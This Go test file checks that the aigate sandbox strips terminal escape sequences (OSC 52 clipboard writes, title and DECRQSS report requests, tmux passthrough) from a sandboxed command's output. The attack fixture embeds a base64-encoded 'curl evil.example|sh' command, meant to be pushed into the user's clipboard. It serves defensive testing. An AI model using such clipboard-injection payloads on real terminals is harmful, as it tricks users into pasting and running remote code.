//go:build linux

package escape

import (
	"io"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/creack/pty"

	"github.com/aigate-dev/aigate/internal/e2e"
	"github.com/aigate-dev/aigate/internal/events"
	"github.com/aigate-dev/aigate/internal/fanotify"
	"github.com/aigate-dev/aigate/internal/testutil"
)

// terminalAttack writes, to every way the command has to the terminal
// (stdout, stderr, /dev/tty), a clipboard write (OSC 52, BEL- and
// ST-terminated), a clipboard read, the window-title report request, a
// DECRQSS and a tmux passthrough carrying OSC 52, between text that
// must pass.
const terminalAttack = `
b64=Y3VybCBldmlsLmV4YW1wbGV8c2gK
printf 'before\033]52;c;%s\007mid\033]52;c;%s\033\\' $b64 $b64
printf '\033]52;c;?\007\033[21t\033P$qm\033\\\033Ptmux;\033\033]52;c;%s\007\033\\' $b64
printf '\033]52;p;%s\007' $b64 >&2
[ -w /dev/tty ] && printf '\033]52;s;%s\007' $b64 >/dev/tty
printf '\033]0;title-ok\007\033[1mbold-ok\033[0m after\n'
`

// TestEscapeTerminal: what a sandboxed command writes to its terminal
// reaches the user's terminal without the sequences that set or read the
// clipboard or make the terminal type text back, and run says it dropped
// them once the command ended. With stdin a terminal (the pty's input
// path) and without (output only).
func TestEscapeTerminal(t *testing.T) {
	eachBackendKernel(t, func(t *testing.T, b *box) {
		for _, stdinTTY := range []bool{true, false} {
			name := "stdin-tty"
			if !stdinTTY {
				name = "stdin-null"
			}
			t.Run(name, func(t *testing.T) {
				got := b.onTerminal(t, stdinTTY, "sh", "-c", terminalAttack)
				if strings.Contains(got, "]52") || strings.Contains(got, "Y3VybCBldmls") {
					t.Errorf("a clipboard sequence reached the terminal:\n%q", got)
				}
				for _, bad := range []string{"\x1b[21t", "$qm", "tmux;"} {
					if strings.Contains(got, bad) {
						t.Errorf("%q reached the terminal:\n%q", bad, got)
					}
				}
				for _, want := range []string{"beforemid", "\x1b]0;title-ok\x07\x1b[1mbold-ok\x1b[0m after",
					"dropped a clipboard write or read (OSC 52)",
					"dropped a request to report the window title",
					"dropped a request to report terminal settings (DECRQSS)",
					"dropped a device control string"} {
					if !strings.Contains(got, want) {
						t.Errorf("the terminal lacks %q:\n%q", want, got)
					}
				}
				if n := strings.Count(got, "(OSC 52)"); n != 1 {
					t.Errorf("the clipboard drop reported %d times, want once:\n%q", n, got)
				}
			})
		}
		// The user's terminal opened by its name from inside, past the
		// pty and its filter: each run keeps the user's terminals out
		// but the command's own, which with the pty between is not the
		// user's (ttyguard.go). LSM refuses the open; fanotify sees it
		// after the fact and kills the sandbox, the write in between not
		// undone (docs/threat-model.md).
		t.Run("by-name", func(t *testing.T) {
			got, code := b.onTerminalRun(t, true, nil, "sh", "-c",
				`if printf 'x\033]52;c;Y3VybCBldmls\007' > @TTY@; then echo WROTE; else echo REFUSED; fi; `+b.afterKill(20))
			r := result{events: b.readEvents()}
			if b.backend == "lsm" {
				if !strings.Contains(got, "REFUSED") || strings.Contains(got, "]52") || code != 0 {
					t.Errorf("the user's terminal was opened by its name past the filter (exit %d):\n%q", code, got)
				}
				if _, ok := r.denied(events.OpRead, "/dev/pts/"); !ok {
					t.Errorf("no read event for the user's terminal:\n%q", got)
				}
				return
			}
			if err := fanotify.CanWatchTerminals(); err != nil {
				if !strings.Contains(got, "is not enforced by the fanotify backend on this kernel") {
					t.Errorf("fanotify cannot watch terminals here (%v), and run does not say so:\n%q", err, got)
				}
				return
			}
			// Named by the run's rule for the user's terminal.
			if ev, ok := r.denied(events.OpOpen, "/dev/pts/"); !ok || ev.RuleText != ev.Path || strings.Contains(got, "survived") || code == 0 {
				t.Errorf("the open of the user's terminal by its name was not seen as the run's rule for it, or the sandbox lived on (exit %d, events %v):\n%q", code, r.events, got)
			}
		})
		// aigate run -- tool | less: only stderr is the terminal, and
		// reaches it through a filtering pipe. (The command still holds
		// the terminal as stdin and /dev/tty there: threat-model.md.)
		t.Run("stdout-pipe", func(t *testing.T) {
			var stdout testutil.SyncBuffer
			got := b.onTerminalOut(t, true, &stdout, "sh", "-c",
				`printf 'err-before\033]52;c;Y3VybCBldmls\007\033[21terr-after\n' >&2; printf 'to-the-pipe\n'`)
			if strings.Contains(got, "]52") || strings.Contains(got, "[21t") {
				t.Errorf("a sequence to drop reached the terminal through stderr:\n%q", got)
			}
			for _, want := range []string{"err-beforeerr-after", "dropped a clipboard write or read (OSC 52)"} {
				if !strings.Contains(got, want) {
					t.Errorf("the terminal lacks %q:\n%q", want, got)
				}
			}
			if stdout.String() != "to-the-pipe\n" {
				t.Errorf("stdout (a pipe) got %q", stdout.String())
			}
		})
	})
}

// onTerminal runs `aigate run -- argv` as the user on a terminal of its
// own (a pty whose slave is the user's, stdin too when stdinTTY) and
// returns all that reached the terminal.
func (b *box) onTerminal(t *testing.T, stdinTTY bool, argv ...string) string {
	t.Helper()
	return b.onTerminalOut(t, stdinTTY, nil, argv...)
}

// onTerminalOut is onTerminal with stdout to out instead (nil: the
// terminal).
func (b *box) onTerminalOut(t *testing.T, stdinTTY bool, out io.Writer, argv ...string) string {
	t.Helper()
	got, code := b.onTerminalRun(t, stdinTTY, out, argv...)
	if code != 0 {
		t.Fatalf("exit %d\n%q", code, got)
	}
	return got
}

// onTerminalRun is onTerminalOut that returns the exit code too, with
// the run's events in b.events; "@TTY@" in argv is the terminal's name.
func (b *box) onTerminalRun(t *testing.T, stdinTTY bool, out io.Writer, argv ...string) (string, int) {
	t.Helper()
	return b.onTerminalFlags(t, nil, stdinTTY, out, argv...)
}

// onTerminalFlags is onTerminalRun with run's flags.
func (b *box) onTerminalFlags(t *testing.T, flags []string, stdinTTY bool, out io.Writer, argv ...string) (string, int) {
	t.Helper()
	os.Remove(b.events)
	master, tty, err := pty.Open()
	if err != nil {
		t.Fatal(err)
	}
	defer master.Close()
	defer tty.Close()
	if err := os.Chown(tty.Name(), int(machine.uid), int(machine.gid)); err != nil {
		t.Fatal(err)
	}
	for i := range argv {
		argv[i] = strings.ReplaceAll(argv[i], "@TTY@", tty.Name())
	}
	args := append(append([]string{"run", "--events", b.events}, flags...), "--")
	cmd := b.asUser(exec.Command(machine.bin, append(args, argv...)...))
	cmd.SysProcAttr.Setpgid = false
	cmd.SysProcAttr.Setsid, cmd.SysProcAttr.Setctty = true, true
	cmd.Stdin, cmd.Stdout, cmd.Stderr = tty, tty, tty
	if out != nil {
		cmd.Stdout = out
	}
	ctty := 0
	if !stdinTTY {
		devnull, err := os.Open(os.DevNull)
		if err != nil {
			t.Fatal(err)
		}
		defer devnull.Close()
		cmd.Stdin, ctty = devnull, 1
	}
	cmd.SysProcAttr.Ctty = ctty
	seen := &testutil.SyncBuffer{}
	copied := make(chan struct{})
	go func() {
		defer close(copied)
		buf := make([]byte, 4096)
		for {
			n, err := master.Read(buf)
			seen.Write(buf[:n])
			if err != nil {
				return
			}
		}
	}()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	waited := make(chan error, 1)
	go func() { waited <- cmd.Wait() }()
	code := 0
	select {
	case err := <-waited:
		code = e2e.ExitCodeOf(t, err)
	case <-time.After(runLimit):
		_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		<-waited
		t.Fatalf("aigate on a terminal did not finish:\n%q", seen.String())
	}
	tty.Close()
	select {
	case <-copied:
	case <-time.After(5 * time.Second):
	}
	return seen.String(), code
}
